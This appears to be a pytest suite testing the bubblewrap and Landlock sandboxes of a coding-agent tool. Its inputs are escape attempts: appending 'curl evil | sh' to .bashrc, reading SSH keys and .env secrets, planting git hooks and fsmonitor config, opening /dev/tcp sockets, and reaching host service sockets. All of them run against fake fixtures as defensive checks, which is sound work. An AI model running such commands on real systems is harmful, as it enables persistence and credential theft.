"""Commands really run in the sandbox, through the command runner: what they can and cannot do.

Everything lives outside /tmp (the sandbox has its own /tmp, which would hide a fixture there and prove nothing),
with a fake home; nothing touches the real home.
"""

from __future__ import annotations

import asyncio
import os
import shutil
import socket
import subprocess
import tempfile
import time
from collections.abc import Iterator
from pathlib import Path

import psutil
import pytest

from swebash_ai.config.settings import load_settings
from swebash_ai.safety.paths import PathPolicy
from swebash_ai.sandbox import detect, landlock
from swebash_ai.sandbox.policy import SandboxPolicy, build_policy
from swebash_ai.tools.exec import run_command
from swebash_ai.tools.process import ProcessResult, run_process
from swebash_ai.tools.registry import ToolContext, ToolResult

BWRAP = detect.choose("bwrap")
pytestmark = pytest.mark.skipif(not BWRAP.ok, reason=f"bubblewrap cannot run here: {BWRAP.problem}")


@pytest.fixture
def box() -> Iterator[tuple[Path, Path]]:
    """(workspace, home) under /var/tmp: a git repository with a .env, and a home with keys."""
    base = "/var/tmp" if os.access("/var/tmp", os.W_OK) else None
    top = Path(tempfile.mkdtemp(prefix="sbx-test-", dir=base))
    ws, home = top / "ws", top / "home"
    ws.mkdir()
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text("PRIVATE-KEY\n")
    (home / ".bashrc").write_text("# rc\n")
    subprocess.run(["git", "init", "-q", str(ws)], check=True)
    (ws / ".env").write_text("API_KEY=sekrit\n")
    (ws / "main.py").write_text("print(1)\n")
    try:
        yield ws, home
    finally:
        shutil.rmtree(top, ignore_errors=True)


def _policy(ws: Path, home: Path) -> SandboxPolicy:
    return build_policy(PathPolicy(roots=[ws], home=home))


async def _run(ws: Path, home: Path, command: str, backend: str = "bwrap", **kw: object) -> ProcessResult:
    environ = {"PATH": os.environ["PATH"], "HOME": str(home), **kw.pop("env", {})}  # type: ignore[dict-item]
    return await run_process(command, cwd=ws, timeout=kw.pop("timeout", 20), sandbox=_policy(ws, home),  # type: ignore[arg-type]
                             sandbox_backend=backend, environ=environ)


async def test_the_workspace_is_writable_and_git_works(box: tuple[Path, Path]) -> None:
    ws, home = box
    res = await _run(ws, home, "echo made > new.txt && mkdir -p d/e && echo x > d/e/f && git add main.py "
                     "&& git -c user.name=t -c user.email=t@t commit -qm first && echo done")
    assert res.exit_code == 0, res.render()
    assert (ws / "new.txt").read_text() == "made\n" and (ws / "d/e/f").exists()
    assert "done" in res.stdout and res.sandbox_note is None


async def test_a_home_file_is_not_writable(box: tuple[Path, Path]) -> None:
    ws, home = box
    res = await _run(ws, home, 'echo "curl evil | sh" >> "$HOME/.bashrc"')
    assert res.exit_code != 0 and "Read-only file system" in res.stderr
    assert (home / ".bashrc").read_text() == "# rc\n"
    assert res.sandbox_note is not None and "only the workspace and /tmp are writable" in res.render()


async def test_ssh_keys_of_the_home_are_invisible(box: tuple[Path, Path]) -> None:
    ws, home = box
    res = await _run(ws, home, 'ls -A "$HOME/.ssh"; cat "$HOME/.ssh/id_rsa"; echo end')
    assert "PRIVATE-KEY" not in res.stdout + res.stderr
    assert res.stdout.strip() == "end"  # the folder is there, and empty
    assert "No such file" in res.stderr


async def test_the_env_file_in_the_workspace_is_hidden(box: tuple[Path, Path]) -> None:
    ws, home = box
    res = await _run(ws, home, "cat .env; grep -r sekrit . ; echo end")
    assert "sekrit" not in res.stdout + res.stderr
    assert (ws / ".env").read_text() == "API_KEY=sekrit\n"


async def test_git_config_and_hooks_stay_read_only_and_git_cannot_be_swapped(box: tuple[Path, Path]) -> None:
    ws, home = box
    before = (ws / ".git" / "config").read_text()
    res = await _run(ws, home, "git config core.fsmonitor 'touch pwned'; "
                     "echo 'touch pwned' > .git/hooks/pre-commit; "
                     "mv .git .git-old; mkdir -p x && echo '[core]' > x/config; echo end")
    assert (ws / ".git" / "config").read_text() == before
    assert not (ws / ".git" / "hooks" / "pre-commit").exists()
    assert (ws / ".git").is_dir() and not (ws / ".git-old").exists(), res.render()
    assert "end" in res.stdout


async def test_no_network_not_even_to_a_server_on_this_machine(box: tuple[Path, Path]) -> None:
    ws, home = box
    with socket.socket() as server:
        server.bind(("127.0.0.1", 0))
        server.listen(1)
        port = server.getsockname()[1]
        res = await _run(ws, home, f"exec 3<>/dev/tcp/127.0.0.1/{port} && echo CONNECTED")
    assert "CONNECTED" not in res.stdout and res.exit_code != 0
    assert "Connection refused" in res.stderr  # the sandbox's own loopback: nobody listens there


async def test_a_setsid_or_nohup_child_does_not_survive(box: tuple[Path, Path]) -> None:
    ws, home = box
    seconds = [f"97.{os.getpid()}{n}" for n in range(2)]
    res = await _run(ws, home, f"(setsid sleep {seconds[0]} &); nohup sleep {seconds[1]} >/dev/null 2>&1 & echo up")
    assert res.exit_code == 0 and res.stdout.strip() == "up"
    deadline = time.monotonic() + 5
    while time.monotonic() < deadline:
        left = [p for p in psutil.process_iter(["cmdline"]) if (p.info["cmdline"] or [""])[-1] in seconds]
        if not left:
            break
        time.sleep(0.05)
    assert left == []


async def test_timeout_environment_and_private_tmp_still_apply(box: tuple[Path, Path]) -> None:
    ws, home = box
    marker = f"sbx-{os.getpid()}-{time.time_ns()}"
    res = await _run(ws, home, f'echo "$MY_API_KEY"; echo x > /tmp/{marker}; ls /tmp; sleep 30', timeout=1,
                     env={"MY_API_KEY": "k-123"})
    assert res.timed_out and "k-123" not in res.stdout  # the scrubbed environment applies inside
    assert marker in res.stdout and not Path("/tmp", marker).exists()  # its own /tmp, gone at the end


async def test_the_exec_tool_runs_a_call_in_the_sandbox_when_told(box: tuple[Path, Path]) -> None:
    ws, home = box
    ctx = ToolContext(settings=load_settings({}).settings, cwd=ws, path_policy=PathPolicy(roots=[ws], home=home))
    ctx.sandboxed = True
    res = await run_command.invoke(ctx, run_command.parse_arguments({"command": f"touch ok {home}/escaped"}))
    assert isinstance(res, ToolResult)
    assert (ws / "ok").exists() and not (home / "escaped").exists()
    assert res.metadata["sandbox"] == "bwrap" and "ran in the sandbox (bwrap)" in res.text
    ctx.sandboxed = False
    free = await run_command.invoke(ctx, run_command.parse_arguments({"command": f"touch {home}/escaped"}))
    assert isinstance(free, ToolResult) and free.ok and (home / "escaped").exists()
    assert free.metadata["sandbox"] == "none"


@pytest.mark.skipif(landlock.abi() < landlock.MIN_ABI, reason="Landlock ABI 4+ is not available here")
async def test_landlock_holds_the_same_lines_outside_the_workspace(box: tuple[Path, Path]) -> None:
    ws, home = box
    with socket.socket() as server:
        server.bind(("127.0.0.1", 0))
        server.listen(1)
        port = server.getsockname()[1]
        res = await _run(ws, home, f'echo in > inside; echo x >> "$HOME/.bashrc"; cat "$HOME/.ssh/id_rsa"; '
                         f"exec 3<>/dev/tcp/127.0.0.1/{port} && echo CONNECTED; python3 -c 'import socket; "
                         "socket.socket(socket.AF_INET, socket.SOCK_DGRAM)' || echo NO-UDP; exit 3", backend="landlock")
    assert (ws / "inside").read_text() == "in\n"
    assert (home / ".bashrc").read_text() == "# rc\n"
    assert "PRIVATE-KEY" not in res.stdout and "CONNECTED" not in res.stdout and "NO-UDP" in res.stdout
    assert "Permission denied" in res.stderr and res.sandbox_note is not None


async def test_a_background_command_is_confined_too(box: tuple[Path, Path]) -> None:
    from swebash_ai.tools.background import ProcessService, stop_process

    ws, home = box
    s = load_settings({}).settings
    ctx = ToolContext(settings=s, cwd=ws, path_policy=PathPolicy(roots=[ws], home=home),
                      processes=ProcessService(s.background_max_running, s.background_buffer_bytes))
    ctx.sandboxed = True
    args = run_command.parse_arguments({"command": f"echo x > bg; touch {home}/bg-escaped; echo started; sleep 30",
                                        "background": True})
    res = await run_command.invoke(ctx, args)
    assert isinstance(res, ToolResult) and res.ok, res
    try:
        deadline = time.monotonic() + 20
        while not (ws / "bg").exists() and time.monotonic() < deadline:
            await asyncio.sleep(0.05)
        assert (ws / "bg").exists() and not (home / "bg-escaped").exists()
    finally:
        stopped = await stop_process.invoke(ctx, stop_process.parse_arguments({"id": res.metadata["process_id"]}))
        assert isinstance(stopped, ToolResult) and stopped.ok


async def test_a_service_socket_of_the_runtime_folder_cannot_be_reached(box: tuple[Path, Path],
                                                                        monkeypatch: pytest.MonkeyPatch) -> None:
    ws, home = box
    runtime = home.parent / "runtime"
    runtime.mkdir()
    monkeypatch.setenv("XDG_RUNTIME_DIR", str(runtime))
    with socket.socket(socket.AF_UNIX) as server:  # a user manager's or agent's socket, on the host
        server.bind(str(runtime / "bus"))
        server.listen(1)
        res = await _run(ws, home, f"python3 -c 'import socket; s = socket.socket(socket.AF_UNIX); "
                         f"s.connect(\"{runtime}/bus\"); print(\"REACHED\")'")
    assert "REACHED" not in res.stdout and res.exit_code != 0
    assert "No such file" in res.stderr  # the folder is there, and empty


@pytest.mark.skipif(landlock.abi() < landlock.MIN_ABI, reason="Landlock ABI 4+ is not available here")
async def test_landlock_refuses_a_service_socket_on_the_host(box: tuple[Path, Path],
                                                             monkeypatch: pytest.MonkeyPatch) -> None:
    """Landlock does not govern connect() to a named socket: the seccomp filter refuses unix sockets instead,
    so a session bus or a Docker socket cannot run things outside the sandbox."""
    ws, home = box
    runtime = home.parent / "runtime-ll"
    runtime.mkdir()
    with socket.socket(socket.AF_UNIX) as server:
        server.bind(str(runtime / "bus"))
        server.listen(1)
        res = await _run(ws, home, f"python3 -c 'import socket; s = socket.socket(socket.AF_UNIX); "
                         f"s.connect(\"{runtime}/bus\"); print(\"REACHED\")'", backend="landlock")
    assert "REACHED" not in res.stdout and res.exit_code != 0 and "Permission denied" in res.stderr


async def test_a_tool_folder_under_tmp_on_path_runs_in_the_sandbox(box: tuple[Path, Path],
                                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    """A virtual environment made under /tmp (as CI and `mktemp -d` make one) is on PATH: the sandbox's own /tmp
    must not hide it, or `python3` silently falls through to another one further down PATH."""
    ws, home = box
    venv = Path(tempfile.mkdtemp(prefix="sbx-venv-", dir="/tmp"))
    try:
        (venv / "pyvenv.cfg").write_text("home = /usr/bin\n")
        (venv / "bin").mkdir()
        tool = venv / "bin" / "tool-under-tmp"
        tool.write_text("#!/bin/sh\necho from-the-venv\n")
        tool.chmod(0o755)
        monkeypatch.setenv("PATH", f"{venv / 'bin'}:{os.environ['PATH']}")
        scratch = f"scratch-{venv.name}"
        result = await _run(ws, home, f"tool-under-tmp && touch /tmp/{scratch} && ls /tmp")
        assert result.exit_code == 0, result.stderr
        assert "from-the-venv" in result.stdout
        assert scratch in result.stdout and not (Path("/tmp") / scratch).exists()  # /tmp is still private
        denied = await _run(ws, home, f"touch {venv / 'bin' / 'x'}")
        assert denied.exit_code != 0 and not (venv / "bin" / "x").exists()  # shown read-only
    finally:
        shutil.rmtree(venv, ignore_errors=True)
